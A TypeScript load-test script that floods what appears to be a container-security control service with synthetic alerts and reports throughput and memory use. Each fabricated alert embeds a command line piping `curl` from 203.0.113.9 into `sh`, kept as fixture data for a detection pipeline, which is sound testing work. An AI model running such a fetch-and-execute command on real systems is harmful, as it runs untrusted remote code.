/**
 * A host that floods: joins a control with its one-time token and offers alerts by the agent's own spool and link, so many a
 * second. A process of its own, so that its work is not counted as control's. Prints one JSON line when all were answered.
 *   flood-sender.ts '{"ca":…,"token":…,"folder":…,"port":…,"rate":10000,"seconds":30,"containers":40}'
 */
import { join } from 'node:path';
import type { Alert } from '../../src/detect/index.ts';
import { hostIdentity } from '../../src/programs/agent/join.ts';
import { ControlLink } from '../../src/programs/agent/link-client.ts';
import { AlertSpool } from '../../src/programs/agent/spool.ts';
import { monotonicNs } from '../../src/programs/link/stations.ts';
import { newId, silentLog, systemClock } from '../../src/system/index.ts';

export interface FloodOrder {
  readonly ca: string;
  readonly token: string;
  readonly folder: string;
  readonly port: number;
  readonly rate: number;
  readonly seconds: number;
  readonly containers: number;
}

export interface Flooded {
  readonly offered: number;
  /** How many alerts control said that it stored, a sum counted as what it stands for. */
  readonly answered: number;
  /** Of them those that were sent as part of a sum. */
  readonly summed: number;
  readonly offeredMs: number;
  readonly answeredMs: number;
  /** The most that waited for control's word. */
  readonly waitedMost: number;
  readonly memoryMostBytes: number;
}

const order = JSON.parse(process.argv[2] ?? '{}') as FloodOrder;
const TICK_MS = 10;
const GIVE_UP_MS = 300_000;
const RULES = ['Terminal shell in container', 'Read sensitive file untrusted', 'Denied command', 'Reverse shell'];

function makeAlert(place: number): Alert {
  const container = place % order.containers;
  const exe = { exe: '/usr/bin/bash', cmdline: `bash -c "curl -s http://203.0.113.9/${place} | sh"` };
  return {
    ...{ id: newId(systemClock), at: systemClock.now().toISOString(), kernelTimeNs: monotonicNs() },
    ...{ rule: RULES[((place / order.containers) % RULES.length) | 0] ?? '', priority: 'warning' },
    tags: ['container', 'shell', 'mitre_execution', 'T1059'],
    output: `A shell was spawned in a container (user=root shell=bash parent=node cmdline=${exe.cmdline} n=${place})`,
    outputFields: { 'proc.name': 'bash', 'proc.cmdline': exe.cmdline, 'user.name': 'root', 'evt.num': place },
    container: {
      ...{ id: container.toString(16).padStart(64, '0'), name: `web-${container}`, project: 'tienda' },
      ...{ environment: 'dev', workload: `web${container}`, pod: `web-${container}`, container: 'web' },
      ...{ image: 'registry.darsena.internal/tienda/web:1', digest: `sha256:${'a'.repeat(64)}` },
    },
    process: { pid: place + 1, ppid: 1, name: 'bash', ...exe, cwd: '/srv', uid: 0, tty: 0, startedAt: null },
    ancestors: [2, 3, 4].map((pid) => ({ pid, name: 'node', ...exe })),
    source: { kind: 'rule', file: 'rules.yaml', line: 7 },
  };
}

const identity = await hostIdentity({
  ...{ folder: order.folder, host: 'flood', caPath: order.ca, tokenPath: order.token, port: order.port },
  ...{ address: '127.0.0.1', clock: systemClock, log: silentLog },
});
let answered = 0;
let summed = 0;
const standsFor = new Map<string, number>();
const connected = Promise.withResolvers<void>();
const link = new ControlLink({
  address: {
    ...{ host: '127.0.0.1', port: order.port, ca: identity.ca },
    ...{ cert: identity.certificatePem, key: identity.privateKeyPem },
  },
  log: silentLog,
  onConnected: () => connected.resolve(),
  onMessage(message) {
    if (message.type === 'ping') link.send({ type: 'pong' });
    if (message.type !== 'alert-stored') return;
    const count = standsFor.get(message.id);
    if (count !== undefined) {
      standsFor.delete(message.id);
      answered += count;
    }
    spool.stored(message.id);
  },
});
const spool = await AlertSpool.open(join(order.folder, 'alerts'), {
  log: silentLog,
  send(alert, stations) {
    const { count = 1 } = alert;
    if (!standsFor.has(alert.id) && count > 1) summed += count;
    standsFor.set(alert.id, count);
    link.send({ type: 'alert', alert, stations: [...stations, monotonicNs()] });
  },
  isBehind: () => link.behind,
});
void link.run();
await connected.promise;

const began = performance.now();
const total = order.rate * order.seconds;
let offered = 0;
let waitedMost = 0;
let memoryMostBytes = 0;
while (offered < total) {
  const due = Math.min(total, Math.floor(((performance.now() - began) * order.rate) / 1_000));
  while (offered < due) spool.add(makeAlert(offered++), []);
  waitedMost = Math.max(waitedMost, spool.length);
  memoryMostBytes = Math.max(memoryMostBytes, process.memoryUsage.rss());
  await systemClock.sleep(TICK_MS);
}
const offeredMs = performance.now() - began;
while (spool.length > 0 && performance.now() - began < GIVE_UP_MS) await systemClock.sleep(20);
const flooded: Flooded = {
  ...{ offered, answered, summed, offeredMs, answeredMs: performance.now() - began },
  ...{ waitedMost, memoryMostBytes },
};
console.log(JSON.stringify(flooded));
link.close();
await spool.close();
process.exit(0);
